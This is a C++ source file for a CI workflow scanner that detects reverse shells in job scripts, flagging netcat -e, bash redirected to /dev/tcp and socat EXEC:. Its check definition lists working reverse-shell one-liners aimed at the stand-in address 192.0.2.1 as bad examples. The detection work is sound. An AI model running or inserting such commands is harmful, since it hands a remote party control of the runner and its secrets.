#include <algorithm>

#include "base/strings.h"
#include "scanners/workflows/findings/reporter.h"
#include "scanners/workflows/taint/scripts.h"

namespace assay::workflows::checks {

namespace {

bool has_option(const shell::Call& call, char option) {
  return std::any_of(call.words.begin() + 1, call.words.end(), [option](const auto& word) {
    return word && word->size() > 1 && (*word)[0] == '-' && (*word)[1] != '-' &&
           word->find(option) != std::string::npos;
  });
}

void run(const Subject& subject, Reporter& out) {
  taint::for_each_script(subject.analysis, subject.document, [&](const taint::Where& where, const StepScript& script) {
    const auto tell = [&](shell::Span span, std::string_view how) {
      out.report(taint::in_file(where, span), cat("A shell is connected to another machine, by ", how, "."))
          .in(where.job, where.step);
    };
    for (const shell::Call& call : script.calls) {
      const std::string_view name = call.name();
      if ((name == "nc" || name == "ncat" || name == "netcat") && (has_option(call, 'e') || has_option(call, 'c')))
        tell(call.span, "a program that netcat runs");
      const shell::Command& command = script.script.at(call.command);
      const bool shell = name == "bash" || name == "sh" || name == "zsh" || name == "exec";
      const bool socket =
          std::any_of(command.redirections.begin(), command.redirections.end(), [&](const shell::Redirection& one) {
            const std::string target = text_with_gaps(script.script, one.target);
            return target.starts_with("/dev/tcp/") || target.starts_with("/dev/udp/");
          });
      if (shell && socket && (name != "exec" || script.script.text.find("<&") != std::string_view::npos))
        tell(call.span, "/dev/tcp");
      if (name == "socat" && std::any_of(call.words.begin(), call.words.end(), [](const auto& word) {
            const std::string text = word ? lower(*word) : std::string();
            return text.starts_with("exec:");
          }))
        tell(call.span, "socat");
    }
  });
}

}  // namespace

extern const Check reverse_shell = {
    .id = "reverse-shell",
    .title = "Shell is connected to another machine",
    .severity = Severity::high,
    .confidence = Confidence::medium,
    .what = "`bash -i >& /dev/tcp/…`, `nc -e`, `socat EXEC:` in a script.",
    .why = "Somebody at the other end types commands into the runner, with the job's token and secrets.",
    .reproduce = "Read the script: no build needs it.",
    .fix = "Delete it, and find out who added it and what has run since. Change the secrets of the job.",
    .avoid = "Do not debug a runner this way: run the job again with debug logging.",
    .references = {"https://attack.mitre.org/techniques/T1059/004/"},
    .bad = {"- run: bash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n", "- run: nc -e /bin/sh 192.0.2.1 4444\n",
            "- run: socat TCP:192.0.2.1:1 EXEC:/bin/sh\n"},
    .good = {"- run: nc -z localhost 5432\n", "- run: until echo > /dev/tcp/localhost/5432; do sleep 1; done\n",
             "- run: bash -c 'exec 3<>/dev/tcp/localhost/5432'\n", "- run: make\n"},
    .run = run,
};

}  // namespace assay::workflows::checks
